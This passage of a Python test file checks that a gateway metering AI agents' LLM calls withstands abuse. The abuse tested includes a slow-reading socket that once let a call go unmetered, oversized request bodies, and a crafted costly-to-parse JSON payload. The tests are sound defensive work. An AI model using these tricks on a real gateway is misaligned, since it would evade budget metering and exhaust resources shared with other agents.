    blocks once the socket's buffers are full. With no bound it blocked for good, the call never
    metered and its hold kept from the budget. A socket operation waits Handler.timeout (120 s;
    1 s here) at most: then the gateway reads the reply on to its end and meters it."""
    with serving(tmp_path, script=[[Text("x" * 16_000_000)]], usage={"input": 1000, "output": 200}) as (
            root, program, llm, gw, tokens):
        assert gw.server.RequestHandlerClass.timeout == 120  # an agent's socket's, then made short to test
        gw.server.RequestHandlerClass.timeout = 1
        body = json.dumps({"model": "claude-sonnet-test", "max_tokens": 200, "stream": True,
                           "messages": [{"role": "user", "content": "hi"}]}).encode()
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.connect(("127.0.0.1", gw.server.server_address[1]))
            s.sendall(b"POST /anthropic/v1/messages HTTP/1.1\r\nhost: gateway\r\ncontent-type: application/json\r\n"
                      b"x-api-key: %s\r\ncontent-length: %d\r\n\r\n%s" % (tokens["claude"].encode(), len(body), body))
            # the agent reads nothing, and keeps its socket open while the call is metered
            assert [(r["tokens_in"], r["tokens_out"]) for r in spend(root, program, calls=1)] == [(1000, 200)]
            eventually(lambda: not held(root, program), 5, "its hold settled")


def test_bodies_past_a_megabyte_are_parsed_two_at_a_time(tmp_path):
    """A call's body is parsed into objects many times its size (the review's estimate: 27x), so
    32 agents' calls of 8 MB at once could take the runner's memory. Past 1 MB, two are parsed at
    a time; the rest wait their turn. Smaller ones do not wait."""
    with serving(tmp_path) as (root, program, llm, gw, tokens):
        inside, most, lock = [0], [0], threading.Lock()

        def parsing_slowly(self, body, spends, agent):  # stands in for the parse, then refuses the call
            with lock:
                inside[0] += 1
                most[0] = max(most[0], inside[0])
            time.sleep(1.0)  # (long enough that small calls overlap on a busy machine)
            with lock:
                inside[0] -= 1
            raise Refused(400, "invalid_request_error", "parsed (test)")
        gw.server.RequestHandlerClass.checked = parsing_slowly

        def six_at_once(size: int) -> int:
            most[0] = 0
            body = {"model": "claude-sonnet-test", "max_tokens": 10, "messages": [{"role": "user", "content": "x" * size}]}
            answers = []
            threads = [threading.Thread(target=lambda: answers.append(call(gw, "POST", "/anthropic/v1/messages",
                                                                           tokens["claude"], body)[0]))
                       for _ in range(6)]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            assert answers == [400] * 6
            return most[0]
        assert six_at_once(1_500_000) == 2
        assert six_at_once(1000) > 2


def test_an_agent_whose_calls_are_dear_to_read_waits_for_them_and_its_teammates_do_not(org):
    """The gateway reads each call outside every box, at a run's priority: 32 MB of `[{},...]`,
    refused, cost it 4.3 CPU-s of parsing, and an agent could send one after another for
    nothing. Each agent's reading is now paced (org/agents/pacing.py); its teammates' are not."""
    root, program, llm, gw, tokens = org
    gw.pacers["claude"] = Pacer(GATEWAY_SHARE, burst=0, children=False)  # (as the gateway makes it, less the burst)
    dear = b"[" + b",".join([b"{}"] * (1 << 19)) + b"]"
    first = time.monotonic()
    assert call(gw, "POST", "/anthropic/v1/messages", tokens["claude"], dear)[0] == 400
    cost = gw.pacers["claude"].last
    assert cost > 0.05 and time.monotonic() - first < 2 + cost, cost  # (1.5 MB: about 0.2 CPU-s here)
    start = time.monotonic()
    assert call(gw, "POST", "/openai/chat/completions", tokens["gpt"], dear)[0] == 400
    assert time.monotonic() - start < 1 + 5 * cost  # (a teammate's: not paced by claude's debt)
    start = time.monotonic()
    assert call(gw, "POST", "/anthropic/v1/messages", tokens["claude"], dear)[0] == 400
    assert time.monotonic() - start > 0.8 * cost / GATEWAY_SHARE, (time.monotonic() - start, cost)
